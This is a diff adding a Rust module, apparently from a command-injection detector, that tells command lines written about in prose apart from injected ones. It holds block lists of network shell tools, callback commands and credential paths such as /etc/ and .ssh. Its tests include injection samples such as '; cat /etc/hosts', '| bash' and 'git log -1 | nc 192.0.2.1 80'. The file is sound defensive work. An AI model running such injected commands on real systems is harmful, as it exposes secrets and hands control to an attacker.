@@ -1,0 +1,99 @@
+//! Command lines that somebody writes of, rather than injects.
+//!
+//! A command that is injected follows what a form asked for: a name, an address, nothing. One that stands behind a
+//! sentence or behind another command's line is told of, unless it reaches for what only an attack wants.
+
+use super::{
+    command_words::{is_runner, kind},
+    cursor::{WINDOW, has, is_word},
+};
+
+/// Commands that run any other, or open a connection for it.
+const SHELLS: [&[u8]; 22] = [
+    b"sh", b"bash", b"zsh", b"dash", b"ksh", b"csh", b"cmd", b"cmd.exe", b"powershell", b"pwsh", b"nc", b"ncat",
+    b"netcat", b"socat", b"telnet", b"eval", b"perl", b"python", b"python3", b"ruby", b"php", b"source",
+];
+/// Commands that tell the sender that they ran.
+const SIGNALS: [&[u8]; 10] =
+    [b"curl", b"wget", b"nslookup", b"dig", b"host", b"ping", b"iwr", b"fetch", b"certutil", b"sleep"];
+/// Tools that are written of more often than any command of a system, and that begin a line.
+const TOOLS: [&[u8]; 24] = [
+    b"brew", b"bundle", b"cargo", b"choco", b"composer", b"docker", b"docker-compose", b"flutter", b"gcloud", b"git",
+    b"gh", b"go", b"gradle", b"helm", b"mvn", b"npx", b"pip", b"pip3", b"poetry", b"pytest", b"rustup", b"terraform",
+    b"uv", b"yarn",
+];
+/// Where only an attack wants to read or write.
+const SECRETS: [&[u8]; 14] = [
+    b"/etc/", b"/proc/self", b"/dev/tcp", b"/root", b"passwd", b"shadow", b".ssh", b"win.ini", b"/bin/", b"/tmp/", b"c:\\",
+    b"://", b"base64", b"rm -rf / ",
+];
+
+/// Whether the command `name`, whose opener stands at `start` and whose arguments begin at `behind`, is written of.
+pub(super) fn is_told_of(text: &[u8], start: usize, name: &[u8], behind: usize) -> bool {
+    let prior = &text[start.saturating_sub(2 * WINDOW)..start];
+    (is_sentence(prior) || is_command_line(prior)) && !reaches_out(name, &text[behind..text.len().min(behind + WINDOW)])
+}
+
+/// Three words side by side.
+fn is_sentence(prior: &[u8]) -> bool {
+    let mut run = 0;
+    prior.split(|byte| *byte == b' ').any(|word| {
+        let word = word.strip_suffix(b",").unwrap_or(word);
+        let is_plain = !word.is_empty() && word.iter().all(|byte| byte.is_ascii_alphabetic() || *byte >= 0x80);
+        run = if is_plain { run + 1 } else { 0 };
+        run >= 3
+    })
+}
+
+/// The latest line begins with a command and goes on behind it.
+fn is_command_line(prior: &[u8]) -> bool {
+    let from = memchr::memrchr2(b'\n', b'\r', prior.trim_ascii_end()).map_or(0, |at| at + 1);
+    let line = prior[from..].trim_ascii_start();
+    let mut words = line.split(|byte| *byte == b' ').filter(|word| !word.is_empty());
+    let Some(mut first) = words.next() else { return false };
+    // The mark of a prompt, of a list, or of a file of instructions.
+    if matches!(first, b"$" | b"%" | b">" | b"-" | b"run" | b"sudo") {
+        let Some(next) = words.next() else { return false };
+        first = next;
+    }
+    let is_command = TOOLS.contains(&first) || kind(first).is_some() || is_runner(first);
+    is_command && words.next().is_some()
+}
+
+fn reaches_out(name: &[u8], rest: &[u8]) -> bool {
+    let line = &rest[..memchr::memchr2(b'\n', b'\r', rest).unwrap_or(rest.len())];
+    // Where a sentence goes on, the rest is no argument.
+    let is_last = line.trim_ascii().is_empty();
+    let arguments = line.trim_ascii().split(|byte| *byte == b' ').take(8);
+    let n_words = arguments.clone().filter(|word| word.len() > 1 && word.iter().all(|byte| is_word(*byte))).count();
+    SHELLS.contains(&name)
+        || is_last && kind(name).is_some()
+        || SIGNALS.contains(&name) && n_words < 2 && arguments.clone().next().is_some_and(|first| !first.is_empty())
+        || SECRETS.iter().any(|secret| has(line, secret))
+        || arguments.clone().any(|word| matches!(word, b"/" | b"/*" | b"~"))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn told(text: &str, name: &str) -> bool {
+        let behind = text.rfind(name).unwrap() + name.len();
+        let start = text[..behind - name.len()].rfind(['|', ';', '&']).unwrap();
+        is_told_of(text.as_bytes(), start, name.as_bytes(), behind)
+    }
+
+    #[test]
+    fn tells_lines_from_injections() {
+        assert!(told("git log --oneline | head -5", "head"));
+        assert!(told("the server is down; systemctl restart nginx", "systemctl"));
+        assert!(told("tar czf - dir | ssh host \"cat > x\"", "ssh"));
+        assert!(!told("8.8.8.8; ls -la", "ls"));
+        assert!(!told("report; ls -la", "ls"));
+        assert!(!told("please send it to me; cat /etc/hosts", "cat"));
+        assert!(!told("please send it to me; curl http://x.example/", "curl"));
+        assert!(!told("please send it to me | bash", "bash"));
+        assert!(!told("git log -1 | nc 192.0.2.1 80", "nc"));
+        assert!(!told("please send it to me; whoami", "whoami"));
+    }
+}
